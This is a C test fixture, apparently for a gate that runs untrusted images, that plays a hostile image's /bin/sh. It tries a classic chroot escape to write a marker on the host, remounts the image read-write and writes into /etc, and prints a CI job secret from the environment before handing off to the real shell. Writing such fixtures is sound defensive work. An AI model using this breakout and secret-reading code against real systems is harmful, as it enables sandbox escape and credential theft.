/* A hostile image's /bin/sh, for tests/test_operations.py: everything an untrusted image would try
   when a gate runs its shell. It reports each attempt on stderr (which the gate keeps as evidence),
   then runs the image's real shell so the gate goes on.
   - leave a chroot the classic way (chroot into a subdirectory, climb out, chroot to what is there)
     and write MARKER, a path on the machine running the gate;
   - make the image writable again (remount read-write) and write into it;
   - print a secret from the environment of the gate's job. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    mkdir("/.escape", 0700);
    if (chroot("/.escape") == 0) {
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
    }
    int fd = open(MARKER, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        dprintf(fd, "written as uid %d\n", (int)getuid());
        close(fd);
        fprintf(stderr, "hostile: wrote %s\n", MARKER);
    }
    chroot("/");
    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    fd = open("/etc/hostile-was-here", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        close(fd);
        fprintf(stderr, "hostile: wrote into the image\n");
    }
    const char *secret = getenv("PFC_TEST_CI_SECRET");
    if (secret) fprintf(stderr, "hostile: the job's secret is %s\n", secret);
    argv[0] = "dash";
    execv("/usr/bin/dash", argv);
    return 127;
}
